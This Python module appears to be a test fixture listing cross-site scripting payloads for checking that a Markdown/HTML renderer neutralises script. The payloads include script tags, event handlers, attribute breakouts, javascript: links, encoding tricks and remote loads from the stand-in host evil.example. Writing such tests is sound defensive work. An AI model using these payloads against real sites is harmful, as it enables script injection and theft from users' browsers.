"""What somebody might type into a page to make it run in a reader's browser. Each calls `xss()` if it can.

SHORT ones fit every field; LONG ones go into texts alone.
"""

EVIL = "evil.example"
"""A host that nothing may ever be asked of."""

SHORT = (
    # Raw tags.
    "<script>xss()</script>",
    "<ScRiPt >xss()</sCrIpT>",
    "<script/x>xss()</script/x>",
    f"<script src=//{EVIL}/x.js></script>",
    "</title><script>xss()</script>",
    "</textarea><script>xss()</script>",
    "--><script>xss()</script><!--",
    "]]><script>xss()</script>",
    "<scr<script>ipt>xss()</script>",
    # Handlers.
    "<img src=x onerror=xss()>",
    "<img/src=x/onerror=xss()//>",
    "<img src='x'onerror='xss()'>",
    "<body onload=xss()>",
    "<input autofocus onfocus=xss()>",
    "<details open ontoggle=xss()>",
    "<video><source onerror=xss()>",
    "<marquee onstart=xss()>",
    # Out of an attribute.
    '" onfocus=xss() autofocus tabindex=1 x="',
    "' onmouseover=xss() style='position:fixed;inset:0' x='",
    '"><svg/onload=xss()>',
    # Other languages.
    "<svg><script>xss()</script></svg>",
    "<svg><animate onbegin=xss() attributeName=x dur=1s>",
    "<math><a xlink:href=javascript:xss()>x</a></math>",
    "<style>@import '//evil.example/x.css';</style>",
    '<p style="background:url(javascript:xss())">x</p>',
    f"<link rel=stylesheet href=//{EVIL}/x.css>",
    "<base href=javascript:xss()//>",
    "<meta http-equiv=refresh content=0;url=javascript:xss()>",
    "<iframe srcdoc='<script>parent.xss()</script>'></iframe>",
    "<object data=javascript:xss()></object>",
    "<form action=javascript:xss()><button>x</button></form>",
    # Links.
    "[x](javascript:xss())",
    "[x](JaVaScRiPt:xss())",
    "[x](&#106;avascript:xss())",
    "[x](javascript&colon;xss())",
    "[x](java\tscript:xss())",
    "[x](\x01javascript:xss())",
    "[x](vbscript:xss())",
    "[x](data:text/html,<script>xss()</script>)",
    "<javascript:xss()>",
    "[[x](javascript:xss())](/a)",
    f"[x](//{EVIL}/)",
    '[x](/a "\\" onfocus=xss() autofocus x=\\"")',
    # Pictures.
    "![x](javascript:xss())",
    f"![x](https://{EVIL}/x.gif)",
    "![x](data:image/svg+xml,<svg/onload=xss()>)",
    '!["onerror=xss() x="](drawing:x)',
    '![x](drawing:x"onerror="xss())',
    "![<img src=x onerror=xss()>](image:../../x)",
    # Letters that are not what they seem.
    "&lt;script&gt;xss()&lt;/script&gt;",
    "&#60;script&#62;xss()&#60;/script&#62;",
    "\uff1cscript\uff1exss()\uff1c/script\uff1e",
    "<scr\x00ipt>xss()</scr\x00ipt>",
    "\u202e<script>xss()</script>",
    "+ADw-script+AD4-xss()+ADw-/script+AD4-",
    # Templates and scripts that read the page.
    "{{ 7|add:7 }}{% now 'Y' %}${xss()}",
    "</script><script>xss()</script>",
)

LONG = (
    "[x][a]\n\n[a]: javascript:xss()",
    "[x][b]\n\n[b]: <data:text/html,<script>xss()</script>> 'x'",
    '[x][c]\n\n[c]: /a "\\"><script>xss()</script>"',
    '| a | "><img src=x onerror=xss()> |\n| --- | --- |\n| <b onclick=xss()>b</b> | [c](javascript:xss()) |',
    "# <img src=x onerror=xss()>\n\n## [x](javascript:xss())",
    '```"><script>xss()</script>\n<script>xss()</script>\n```',
    '~~~ x" onload=xss() y="\n</code></pre><script>xss()</script>\n~~~',
    "    <script>xss()</script>",
    "`<script>xss()</script>`",
    "> <script>\n> xss()\n> </script>",
    "- <svg onload=xss()>\n- [x](javascript:xss())\n  1. <img src=x onerror=xss()>",
    "<div>\n\n*<script>xss()</script>*\n\n</div>",
    "<![CDATA[<script>xss()</script>]]>",
    "<?php xss() ?>\n\n<!DOCTYPE x [<!ENTITY y 'z'>]>",
    "***[x](<javascript:xss()>)***\n***",
)

EVERY = (*SHORT, *LONG)
